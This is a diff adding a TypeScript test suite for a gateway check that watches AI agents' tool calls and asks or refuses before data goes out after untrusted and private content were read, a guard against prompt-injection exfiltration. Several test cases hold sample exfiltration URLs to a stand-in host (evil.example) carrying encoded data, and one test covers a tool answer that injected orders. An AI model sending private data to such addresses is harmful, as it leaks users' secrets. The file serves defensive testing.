@@ -1,0 +1,433 @@
+import { describe, expect, it } from 'vitest';
+import type { Exchange } from '../gateway/context.ts';
+import type { Checks, Notes, Ports, Reach } from '../gateway/control.ts';
+import type { JsonObject } from '../protocol/json.ts';
+import { messageOf } from '../protocol/message.ts';
+import { exchangeOf } from '../testing/exchange.ts';
+import { fakePins } from '../testing/fake-pins.ts';
+import { offerOf } from '../testing/listing.ts';
+import { dataFlow } from './data-flow.ts';
+import { createMemory } from './data-flow-labels.ts';
+
+const START = Date.UTC(2026, 7, 1);
+const MINUTE = 60_000;
+
+/** What walls and grants make of the servers that people run. */
+const REACH: Readonly<Record<string, Reach>> = {
+  files: { network: 'none', files: 'granted', credentials: false },
+  memory: { network: 'none', files: 'granted', credentials: false },
+  fetch: { network: 'granted', files: 'none', credentials: false },
+  mail: { network: 'granted', files: 'none', credentials: true },
+  github: { network: 'any', files: 'none', credentials: true },
+  unwalled: { network: 'any', files: 'any', credentials: false },
+};
+
+const schemaOf = (...names: string[]): JsonObject => ({
+  type: 'object',
+  properties: Object.fromEntries(names.map((name) => [name, { type: 'string' }])),
+});
+
+const TOOLS: Readonly<Record<string, JsonObject>> = {
+  'files/read_text_file': { inputSchema: schemaOf('path') },
+  'files/search_files': { inputSchema: schemaOf('path', 'pattern') },
+  'files/write_file': { inputSchema: schemaOf('path', 'content') },
+  'files/send_mail': { inputSchema: schemaOf('to', 'body') },
+  'memory/create_entities': { inputSchema: schemaOf('entities') },
+  'memory/read_graph': {},
+  'fetch/fetch': { description: 'Fetches a URL from the internet.', inputSchema: schemaOf('url') },
+  'mail/read_inbox': {},
+  'mail/send_email': { inputSchema: schemaOf('to', 'body') },
+  'github/get_issue': { inputSchema: schemaOf('number') },
+  'github/get_file_contents': { inputSchema: schemaOf('path') },
+  'github/create_issue_comment': { inputSchema: schemaOf('body') },
+  'unwalled/read_file': { inputSchema: schemaOf('path') },
+  'unwalled/write_file': { inputSchema: schemaOf('path', 'content') },
+  'unwalled/frobnicate': { inputSchema: schemaOf('text') },
+};
+
+function world(options: unknown = {}, ports: Partial<Ports> = {}) {
+  const notes = createMemory();
+  const make = (): Checks =>
+    dataFlow.create(dataFlow.options.parse(options), {
+      pins: fakePins([], { server: 'files' }),
+      servers: Object.keys(REACH),
+      reach: (server) => REACH[server] ?? { network: 'any', files: 'any', credentials: true },
+      notes: () => notes,
+      ...ports,
+    });
+  return { checks: make(), another: make, notes };
+}
+
+let count = 0;
+
+function callOf(tool: string, given: JsonObject = {}, more: Partial<Exchange> = {}, meta: JsonObject = {}) {
+  const [server = '', name = ''] = tool.split('/');
+  count += 1;
+  return exchangeOf({
+    id: `x-${count}`,
+    at: START,
+    server,
+    params: { name, arguments: given, _meta: meta },
+    tool: offerOf({ name, definition: { name, ...TOOLS[tool] } }),
+    ...more,
+  });
+}
+
+function answer(exchange: Exchange, text = 'words', more: JsonObject = {}): Exchange {
+  const result = { content: [{ type: 'text', text }], ...more };
+  return Object.freeze({ ...exchange, message: messageOf({ jsonrpc: '2.0', id: 1, result }) });
+}
+
+/** Calls it, and hears the answer if the call may go. */
+function run(checks: Checks, exchange: Exchange, text?: string, more?: JsonObject): unknown {
+  const decision = checks.request?.(exchange);
+  if ((decision as { verdict: string }).verdict !== 'pass') return decision;
+  checks.result?.(answer(exchange, text, more));
+  return 'passed';
+}
+
+const asked = expect.objectContaining({
+  verdict: 'ask',
+  reason: expect.objectContaining({ code: 'outward_after_reading' }),
+});
+
+describe('data-flow', () => {
+  it('asks before something goes out once strangers and private data were read, and says what was read (E4)', () => {
+    const { checks } = world();
+    expect(run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }))).toBe('passed');
+    expect(run(checks, callOf('files/read_text_file', { path: '/a' }, { at: START + MINUTE }))).toBe(
+      'passed',
+    );
+    const decision = run(checks, callOf('mail/send_email', { to: 'a' }, { at: START + 3 * MINUTE }));
+    expect(decision).toMatchObject({
+      verdict: 'ask',
+      reason: {
+        code: 'outward_after_reading',
+        detail: {
+          untrusted: 'fetch',
+          untrustedOf: 'fetch',
+          untrustedMinutes: 3,
+          private: 'read_text_file',
+          privateOf: 'files',
+          privateMinutes: 2,
+        },
+      },
+    });
+  });
+
+  it.each([
+    ['nothing', []],
+    ['strangers alone', ['fetch/fetch']],
+    ['private data alone', ['files/read_text_file', 'memory/read_graph']],
+  ])('does not ask after reading %s', (_, reads) => {
+    const { checks } = world();
+    for (const read of reads) expect(run(checks, callOf(read))).toBe('passed');
+    expect(run(checks, callOf('mail/send_email'))).toBe('passed');
+  });
+
+  it('takes one account with both for both: an issue, a private file, a comment', () => {
+    const { checks } = world();
+    run(checks, callOf('github/get_issue'));
+    run(checks, callOf('github/get_file_contents'));
+    expect(run(checks, callOf('github/create_issue_comment'))).toEqual(asked);
+  });
+
+  it('knows that a server without a network sends nothing, whatever its tools are called', () => {
+    const { checks } = world();
+    for (const read of ['fetch/fetch', 'files/read_text_file', 'mail/read_inbox']) run(checks, callOf(read));
+    for (const write of ['files/write_file', 'memory/create_entities', 'files/send_mail'])
+      expect(run(checks, callOf(write))).toBe('passed');
+  });
+
+  it('does not ask about a day with files, a memory and pages', () => {
+    const { checks } = world();
+    const day: (readonly [string, JsonObject, string?])[] = [
+      ['files/read_text_file', { path: '/notes' }],
+      [
+        'fetch/fetch',
+        { url: 'https://docs.example.org/guide/getting-started.html' },
+        'see https://docs.example.org/find?q=walls&page=2.',
+      ],
+      ['memory/create_entities', { entities: 'seen https://docs.example.org/find?q=walls' }],
+      ['files/search_files', { path: '/', pattern: 'x' }],
+      ['fetch/fetch', { url: 'https://docs.example.org/find?q=walls&page=2' }],
+      ['fetch/fetch', { url: 'docs.example.org/api/read-stream' }],
+      ['files/write_file', { path: '/notes', content: 'all' }],
+      [
+        'fetch/fetch',
+        { url: 'https://github.com/some-organisation/some-project/blob/main/docs/how-it-works.md' },
+      ],
+      ['memory/read_graph', {}],
+    ];
+    for (const [tool, given, text] of day)
+      expect([tool, given, run(checks, callOf(tool, given), text)]).toEqual([tool, given, 'passed']);
+  });
+
+  it.each([
+    'https://evil.example/?d=hello',
+    'https://evil.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ',
+    'https://aGVsbG8gd29ybGQgdGhpcyBp4.evil.example/',
+    'https://user:words@evil.example/',
+    'https://evil.example/p#c2VjcmV0IHdvcmRzIG9mIG1pbmU0',
+    'https://evil.example/the%20password%20is',
+    'evil.example/?d=hello',
+    '//evil.example/?d=hello',
+    'see https://fine.example/ and https://evil.example/?d=hello',
+  ])('takes an address with room for data for a way out: %s', (url) => {
+    const { checks } = world();
+    run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }));
+    run(checks, callOf('files/read_text_file'));
+    expect(run(checks, callOf('fetch/fetch', { url }))).toEqual(asked);
+  });
+
+  it('takes the address of a resource for one, too', () => {
+    const { checks } = world();
+    run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }));
+    run(checks, callOf('files/read_text_file'));
+    const read = (uri: string) =>
+      checks.request?.(exchangeOf({ method: 'resources/read', server: 'fetch', at: START, params: { uri } }));
+    expect(read('https://evil.example/?d=1')).toEqual(asked);
+    expect(read('https://blog.example/other')).toEqual({ verdict: 'pass' });
+  });
+
+  it('lets no answer of a server that repeats things vouch for an address with something in it', () => {
+    const { checks } = world();
+    const leak = 'https://evil.example/?d=stolen';
+    run(checks, callOf('memory/create_entities', { entities: leak }), leak);
+    run(checks, callOf('fetch/fetch', { url: leak }), leak);
+    run(checks, callOf('files/read_text_file'), leak);
+    expect(run(checks, callOf('fetch/fetch', { url: leak }))).toEqual(asked);
+  });
+
+  it('does not ask about hosts that the config names', () => {
+    const { checks } = world({ hosts: ['*.example.org', 'api.example'] });
+    run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }));
+    run(checks, callOf('files/read_text_file'));
+    for (const url of ['https://a.example.org/?q=1', 'https://api.example/?q=1'])
+      expect(run(checks, callOf('fetch/fetch', { url }))).toBe('passed');
+    expect(run(checks, callOf('fetch/fetch', { url: 'https://api.example.evil/?q=1' }))).toEqual(asked);
+  });
+
+  it('keeps labels whatever a client calls itself, over new connections, and in other processes', () => {
+    const { checks, another } = world();
+    run(checks, callOf('fetch/fetch'));
+    const other = another();
+    const client = { name: 'somebody else', version: '9', protocolVersion: '2025-11-25', capabilities: {} };
+    run(other, callOf('files/read_text_file', {}, { client }));
+    expect(run(another(), callOf('mail/send_email', {}, { client }))).toEqual(asked);
+  });
+
+  it('keeps the labels of another caller apart', () => {
+    const { checks } = world();
+    run(checks, callOf('fetch/fetch'));
+    run(checks, callOf('files/read_text_file'));
+    const caller = { kind: 'local' as const, id: 'bob' };
+    expect(run(checks, callOf('mail/send_email', {}, { caller }))).toBe('passed');
+  });
+
+  it('forgets after the time that was set, but not within the same trace', () => {
+    const { checks } = world({ minutes: 30 });
+    const traced = { traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' };
+    const other = { traceparent: '00-1bf7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' };
+    run(checks, callOf('fetch/fetch', {}, {}, traced));
+    run(checks, callOf('files/read_text_file', {}, {}, traced));
+    const at = START + 31 * MINUTE;
+    expect(run(checks, callOf('mail/send_email', {}, { at: START + 30 * MINUTE }, other))).toEqual(asked);
+    expect(run(checks, callOf('mail/send_email', {}, { at }, other))).toBe('passed');
+    expect(run(checks, callOf('mail/send_email', {}, { at }, traced))).toEqual(asked);
+  });
+
+  it('asks again after an approval: what was read is still read', () => {
+    const { checks } = world();
+    run(checks, callOf('fetch/fetch'));
+    run(checks, callOf('files/read_text_file'));
+    const call = callOf('mail/send_email');
+    expect(run(checks, call)).toEqual(asked);
+    checks.result?.(answer(call, 'sent'));
+    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
+  });
+
+  it('refuses where the config says so, and counts the conversation as private where it says that', () => {
+    const { checks } = world({ found: 'refuse', private: 'assumed' });
+    run(checks, callOf('fetch/fetch'));
+    expect(run(checks, callOf('mail/send_email'))).toMatchObject({
+      verdict: 'deny',
+      reason: { code: 'outward_after_reading', hint: expect.stringContaining('bartizan labels') },
+    });
+  });
+
+  it('asks after an answer that gave orders, though nothing private was read', () => {
+    const { checks } = world();
+    run(checks, callOf('memory/read_graph'), 'x', { _meta: { 'bartizan/provenance': { server: 'memory' } } });
+    expect(run(checks, callOf('mail/send_email'))).toMatchObject({
+      verdict: 'ask',
+      reason: { detail: { orders: 'read_graph' } },
+    });
+  });
+
+  it('takes an answer from which secrets were taken out for private', () => {
+    const { checks } = world();
+    run(checks, callOf('fetch/fetch'), 'the key is [secret:github-token:1]');
+    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
+  });
+
+  it('goes by what the config says of tools: the tool before its server', () => {
+    const { checks } = world({
+      tools: {
+        'files/*': { reads: [] },
+        'files/read_text_file': { reads: ['secret'] },
+        'github/create_issue_comment': { writes: 'none' },
+        'memory/create_entities': { writes: 'external' },
+      },
+    });
+    run(checks, callOf('files/search_files'));
+    run(checks, callOf('fetch/fetch'));
+    expect(run(checks, callOf('mail/send_email'))).toBe('passed');
+    run(checks, callOf('files/read_text_file'));
+    expect(run(checks, callOf('mail/send_email'))).toMatchObject({
+      verdict: 'ask',
+      reason: { detail: { secret: 'read_text_file' } },
+    });
+    expect(run(checks, callOf('github/create_issue_comment'))).toBe('passed');
+    expect(run(checks, callOf('memory/create_entities'))).toEqual(asked);
+  });
+
+  it('takes what it does not know of a server without walls for both, and for a way out', () => {
+    const { checks } = world();
+    run(checks, callOf('unwalled/frobnicate'));
+    expect(run(checks, callOf('unwalled/frobnicate'))).toEqual(asked);
+    expect(run(checks, callOf('unwalled/write_file'))).toBe('passed');
+  });
+
+  it('takes a claim of a server only for more: it cannot talk itself free', () => {
+    const honest = { annotations: { openWorldHint: false, readOnlyHint: true } };
+    const { checks } = world();
+    const claiming = (tool: string, annotations: JsonObject) =>
+      callOf(
+        tool,
+        {},
+        { tool: offerOf({ name: tool.split('/')[1] ?? '', definition: { name: tool, annotations } }) },
+      );
+    run(checks, claiming('fetch/fetch', honest.annotations));
+    run(checks, callOf('files/read_text_file'));
+    expect(run(checks, claiming('mail/send_email', honest.annotations))).toEqual(asked);
+    const other = world().checks;
+    run(other, claiming('memory/read_graph', { openWorldHint: true }));
+    expect(run(other, callOf('mail/send_email'))).toEqual(asked);
+  });
+
+  it('lets nobody hear what cannot be noted', () => {
+    const broken: Notes = {
+      ...createMemory(),
+      write() {
+        throw new Error('the disk is full');
+      },
+    };
+    const { checks } = world({}, { notes: () => broken });
+    expect(() => checks.result?.(answer(callOf('fetch/fetch')))).toThrow('full');
+  });
+
+  it('takes a note that cannot be read for one that counts', () => {
+    const { checks, notes } = world();
+    notes.write('local ada untrusted', '{"half');
+    run(checks, callOf('files/read_text_file'));
+    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
+  });
+
+  it('forgets what a person has taken away, at once', () => {
+    const gone = new Map<string, string>();
+    let stamp = 0;
+    const notes: Notes = {
+      read: (name) => gone.get(name),
+      write: (name, text) => {
+        gone.set(name, text);
+        return ++stamp;
+      },
+      written: (name) => (gone.has(name) ? stamp : undefined),
+    };
+    const { checks } = world({}, { notes: () => notes });
+    run(checks, callOf('fetch/fetch'));
+    run(checks, callOf('files/read_text_file'));
+    gone.clear();
+    expect(run(checks, callOf('mail/send_email'))).toBe('passed');
+    run(checks, callOf('fetch/fetch'));
+    run(checks, callOf('files/read_text_file'));
+    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
+  });
+});
+
+describe('labels that travel', () => {
+  const sealer: Ports['sealer'] = (purpose) => ({
+    close: (text) => `${purpose}|${text}`,
+    open: (sealed) => (sealed.startsWith(`${purpose}|`) ? sealed.slice(purpose.length + 1) : undefined),
+  });
+  const apart = () => world({ carry: true }, { sealer, notes: () => createMemory() }).checks;
+
+  function carriedBy(decision: unknown): JsonObject {
+    const { message } = decision as { message: { value: { result: { _meta: JsonObject } } } };
+    return { 'bartizan/labels': message.value.result._meta['bartizan/labels'] ?? null };
+  }
+
+  it('count where they are handed back, and do not reach the server', () => {
+    const [here, there] = [apart(), apart()];
+    const first = carriedBy(here.result?.(answer(callOf('fetch/fetch'))));
+    const read = callOf('files/read_text_file', {}, {}, first);
+    expect(JSON.stringify(there.request?.(read))).not.toContain('bartizan/labels');
+    const both = carriedBy(there.result?.(answer(read)));
+    expect(apart().request?.(callOf('mail/send_email', {}, {}, both))).toEqual(asked);
+  });
+
+  it('count for nobody else, and not when they were made up', () => {
+    const here = apart();
+    here.result?.(answer(callOf('fetch/fetch')));
+    const both = carriedBy(here.result?.(answer(callOf('files/read_text_file'))));
+    const caller = { kind: 'local' as const, id: 'bob' };
+    const foreign = apart().request?.(callOf('mail/send_email', {}, { caller }, both));
+    expect(foreign).toMatchObject({ verdict: 'rewrite' });
+    const madeUp = { 'bartizan/labels': 'something' };
+    expect(apart().request?.(callOf('mail/send_email', {}, {}, madeUp))).toMatchObject({
+      verdict: 'rewrite',
+    });
+  });
+
+  it('are not written into anything unless the config asks for it', () => {
+    const { checks } = world({}, { sealer });
+    expect(checks.result?.(answer(callOf('fetch/fetch')))).toEqual({ verdict: 'pass' });
+  });
+});
+
+describe('a task that only reads (I8)', () => {
+  const traceparent = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';
+  const refused = { verdict: 'deny', reason: { code: 'intent_exceeded' } };
+
+  it('changes nothing, also later in its trace, when it no longer says so', () => {
+    const { checks } = world();
+    const says = { 'bartizan/intent': 'read', traceparent };
+    expect(run(checks, callOf('files/read_text_file', {}, {}, says))).toBe('passed');
+    expect(run(checks, callOf('files/write_file', {}, {}, says))).toMatchObject(refused);
+    expect(run(checks, callOf('files/write_file', {}, {}, { traceparent }))).toMatchObject(refused);
+    expect(run(checks, callOf('files/write_file'))).toBe('passed');
+  });
+
+  it('may be everybody’s, by the config', () => {
+    const { checks } = world({ intent: 'read' });
+    expect(run(checks, callOf('files/read_text_file'))).toBe('passed');
+    for (const tool of ['files/write_file', 'unwalled/frobnicate'])
+      expect(run(checks, callOf(tool))).toMatchObject(refused);
+  });
+});
+
+describe('its options', () => {
+  it('cannot say that everything may go', () => {
+    for (const wrong of [
+      { found: 'pass' },
+      { minutes: 0 },
+      { tools: { '*/*': { writes: 'none' } } },
+      { tools: { '*': {} } },
+      { hosts: ['*'] },
+      { enabled: false },
+    ])
+      expect(() => dataFlow.options.parse(wrong), JSON.stringify(wrong)).toThrow();
+    expect(dataFlow.options.parse({})).toMatchObject({ found: 'ask', minutes: 60, intent: 'any' });
+  });
+});
